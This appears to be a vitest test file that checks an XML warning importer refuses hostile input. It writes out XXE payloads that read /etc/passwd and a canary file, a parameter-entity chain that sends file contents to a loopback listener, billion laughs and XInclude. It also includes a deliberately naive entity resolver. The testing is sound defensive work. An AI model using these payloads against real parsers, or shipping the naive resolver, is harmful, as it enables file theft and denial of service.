/**
 * Untrusted XML cannot make the import reach out or blow up (docs/cap.md §5 Reading untrusted XML):
 * external entities (over HTTP to a loopback listener this test opens, and to files), parameter
 * entities, an external DTD, billion laughs. Each is refused, the listener sees nobody, and no
 * file's content appears in anything the import returns.
 *
 * That the test would catch a parser that fetched is shown first: a deliberately naive entity
 * resolver, run through the same trap, is seen connecting and leaks the file.
 */

import { randomUUID } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { get } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportCap } from './cap-export.js';
import { importCap } from './cap-import.js';
import { refusals, utf8 } from './test/expect-cap.js';
import { LoopbackTrap } from './test/loopback-trap.js';
import { CONTEXT, ISSUE } from './test/warnings.js';

let trap: LoopbackTrap;
let dir: string;
let canaryUrl: string;
const CANARY = `CANARY-${randomUUID()}`;
const PASSWD_LINE = /root:[^\n]*:0:0:/;

beforeAll(async () => {
  trap = await LoopbackTrap.open();
  dir = mkdtempSync(join(tmpdir(), 'cap-xxe-'));
  const path = join(dir, 'secret.txt');
  writeFileSync(path, CANARY);
  canaryUrl = pathToFileURL(path).href;
});

afterAll(async () => {
  await trap.close();
  rmSync(dir, { recursive: true, force: true });
});

/** A valid warning whose instruction is `inside`, after the prolog `prolog`. */
function attack(prolog: string, inside: string): string {
  const xml = exportCap(ISSUE, CONTEXT);
  return xml
    .replace(
      '<?xml version="1.0" encoding="UTF-8"?>\n',
      `<?xml version="1.0" encoding="UTF-8"?>\n${prolog}\n`,
    )
    .replaceAll('<instruction>危险区域人员立即转移</instruction>', `<instruction>${inside}</instruction>`);
}

function attacks(): [string, string][] {
  const http = (path: string) => `http://127.0.0.1:${trap.port}/${path}`;
  const lol = [
    '<!ENTITY lol0 "lol">',
    ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`),
  ].join('');
  return [
    [
      'an external entity over HTTP',
      attack(`<!DOCTYPE alert [<!ENTITY xxe SYSTEM "${http('xxe')}">]>`, '&xxe;'),
    ],
    [
      'an external entity naming /etc/passwd',
      attack('<!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', '&xxe;'),
    ],
    [
      'an external entity naming a file with a canary',
      attack(`<!DOCTYPE alert [<!ENTITY xxe SYSTEM "${canaryUrl}">]>`, '&xxe;'),
    ],
    [
      'a parameter entity over HTTP',
      attack(`<!DOCTYPE alert [<!ENTITY % p SYSTEM "${http('p.dtd')}"> %p;]>`, 'x'),
    ],
    [
      'a parameter entity that builds an entity naming a file',
      attack(
        `<!DOCTYPE alert [<!ENTITY % f SYSTEM "${canaryUrl}"><!ENTITY % d "<!ENTITY e SYSTEM '${http('?%f;')}'>"> %d;]>`,
        '&e;',
      ),
    ],
    ['an external DTD', attack(`<!DOCTYPE alert SYSTEM "${http('cap.dtd')}">`, 'x')],
    [
      'a public identifier with a system one',
      attack(`<!DOCTYPE alert PUBLIC "-//EVIL//DTD CAP//EN" "${http('pub.dtd')}">`, 'x'),
    ],
    ['billion laughs', attack(`<!DOCTYPE alert [${lol}]>`, '&lol9;')],
    [
      'an internal entity, harmless as it looks',
      attack('<!DOCTYPE alert [<!ENTITY ok "立即转移">]>', '&ok;'),
    ],
  ];
}

describe('the trap', () => {
  it('sees a parser that fetches, and the file it reads', async () => {
    const before = await trap.strangers();
    const leaked = naivelyResolve(
      attack(
        `<!DOCTYPE alert [<!ENTITY xxe SYSTEM "http://127.0.0.1:${trap.port}/xxe"><!ENTITY f SYSTEM "${canaryUrl}">]>`,
        '&xxe;&f;',
      ),
    );
    expect(await trap.strangers()).toBe(before + 1);
    expect(leaked).toContain(CANARY);
  });
});

describe('an XML attack on the import', () => {
  it('is refused for its document type declaration, and reaches nothing', async () => {
    const before = await trap.strangers();
    for (const [name, xml] of attacks()) {
      const result = importCap(utf8(xml));
      expect({ name, reasons: refusals(xml) }).toEqual({ name, reasons: ['CAP_DTD_REFUSED /'] });
      const said = JSON.stringify(result);
      expect(said).not.toContain(CANARY);
      expect(said).not.toMatch(PASSWD_LINE);
    }
    expect(await trap.strangers()).toBe(before);
  });

  it('is refused when it uses an entity no DTD declares', () => {
    const xml = attack('', '&xxe;');
    expect(refusals(xml)).toEqual(['CAP_XML_MALFORMED /']);
    expect(JSON.stringify(importCap(utf8(xml)))).toMatch(/undefined entity/);
  });

  it('cannot include a file with XInclude: an element in the instruction breaks the schema', () => {
    const xml = attack(
      '',
      `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${canaryUrl}" parse="text"/>`,
    );
    expect(refusals(xml)).toEqual([
      'CAP_SCHEMA /alert/info[1]/instruction',
      'CAP_SCHEMA /alert/info[2]/instruction',
    ]);
    expect(JSON.stringify(importCap(utf8(xml)))).not.toContain(CANARY);
  });

  it('fetches no stylesheet a processing instruction names, and imports the warning', async () => {
    const before = await trap.strangers();
    const xml = attack(
      `<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:${trap.port}/style.xsl"?>`,
      '立即转移',
    );
    expect(importCap(utf8(xml)).ok).toBe(true);
    expect(await trap.strangers()).toBe(before);
  });

  it('reads the five predefined entities and character references, nothing else', () => {
    const result = importCap(utf8(attack('', '&lt;&gt;&amp;&quot;&apos;&#x4e2d;&#25991;')));
    expect(result.ok && result.draft.body.instruction).toBe('<>&"\'中文');
  });
});

/**
 * What an unsafe parser does with a document type declaration: fetch every SYSTEM identifier it
 * names, read the files, and put what it read where the entity stands. Only the trap test uses it.
 */
function naivelyResolve(xml: string): string {
  let out = xml;
  for (const m of xml.matchAll(/<!ENTITY (\w+) SYSTEM "([^"]+)">/g)) {
    const [, name, url] = m as unknown as [string, string, string];
    let content = '';
    if (url.startsWith('http:')) get(url).on('error', () => {});
    else content = readFileSync(new URL(url), 'utf8');
    out = out.replaceAll(`&${name};`, content);
  }
  return out;
}
